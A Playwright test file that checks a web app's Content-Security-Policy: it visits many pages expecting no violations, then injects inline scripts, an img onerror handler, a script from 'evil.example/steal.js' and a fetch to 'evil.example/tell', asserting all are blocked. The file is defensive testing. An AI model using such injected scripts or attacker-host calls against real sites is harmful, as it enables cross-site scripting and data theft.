import { expect, test, type Page } from "@playwright/test";
import { open, quiet, watchConsole } from "./page-checks.ts";
import { member, newAddress } from "./people.ts";

/** Collects Content-Security-Policy violations, on this page and every following one. */
async function refusedBy(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction("tellRefused", (what: string) => void refused.push(what));
  await page.addInitScript(() =>
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, documentURI }) =>
      (globalThis as unknown as { tellRefused: (what: string) => void }).tellRefused(
        `${documentURI}: ${effectiveDirective} ${blockedURI}`,
      ),
    ),
  );
  return refused;
}
const ran = (page: Page) => page.evaluate(() => (globalThis as unknown as { ran?: string }).ran);

test("no page does what its policy refuses", async ({ page }) => {
  test.slow();
  const refused = await refusedBy(page);
  const messages = watchConsole(page);
  const looked = async (address: string) => {
    await open(page, address);
    await quiet(page);
  };
  for (const address of ["/", "/opportunities?q=road", "/coverage", "/pricing", "/nowhere", "/access-denied"])
    await looked(address);
  await open(page, "/opportunities?q=road");
  await page.locator("[data-row]").first().getByRole("link").first().click();
  await expect(page).toHaveURL(/\/opportunities\/[\w-]+/);
  await looked(page.url());
  await page.goto("/sign-up");
  await expect(page).toHaveURL(/\/sign-in\//); // it redirects to the provider's page: another navigation would interrupt it
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Sign up");
  await quiet(page);

  await page.goto("/api/v1/docs");
  // The first of the calls: the page takes its time with all of them.
  await expect(page.getByText("/api/v1/opportunity/free/{id}", { exact: true }).first()).toBeVisible();
  await quiet(page);

  await member(page, newAddress("policy"));
  for (const address of ["/dashboard", "/opportunities", "/account", "/account/organisation", "/account/subscription"])
    await looked(address);
  await page
    .getByRole("banner")
    .getByRole("button", { name: /^Kim Nguyen/ })
    .click();
  await page.getByRole("button", { name: "Sign-out" }).click(); // by the provider's page, which has a script of its own
  await expect(page).toHaveURL(/:\d+\/$/);
  await expect(page.getByRole("banner").getByRole("link", { name: "Sign in" })).toBeVisible();

  expect(refused).toEqual([]);
  const failed = /^error: Failed to load resource: the server responded with a status of 4\d\d/; // pages with a message
  expect((await messages()).filter((message) => !failed.test(message))).toEqual([]);
});

test("a script that somebody got into a page does not run, whether it came with the page or later", async ({
  page,
}) => {
  const refused = await refusedBy(page);
  await page.route("**/coverage", async (route) => {
    const answer = await route.fetch();
    const inside = `<script>globalThis.ran = "inline"</script><img src="/none" onerror="globalThis.ran = 'attribute'">`;
    const body = (await answer.text()).replace("</header>", `${inside}</header>`);
    await route.fulfill({ response: answer, body });
  });
  await page.goto("/coverage");
  await expect.poll(() => refused.length).toBe(2);
  expect(await ran(page)).toBeUndefined();

  await open(page, "/");
  refused.length = 0;
  await page.evaluate(() => {
    const inline = document.createElement("script");
    inline.textContent = "globalThis.ran = 'inline'";
    const elsewhere = document.createElement("script");
    elsewhere.src = "https://evil.example/steal.js";
    document.body.append(inline, elsewhere);
    document.body.insertAdjacentHTML("beforeend", `<img src="/none" onerror="globalThis.ran = 'attribute'">`);
    void fetch("https://evil.example/tell").catch(() => undefined);
  });
  await expect.poll(() => refused.length).toBe(4);
  expect(await ran(page)).toBeUndefined();
});
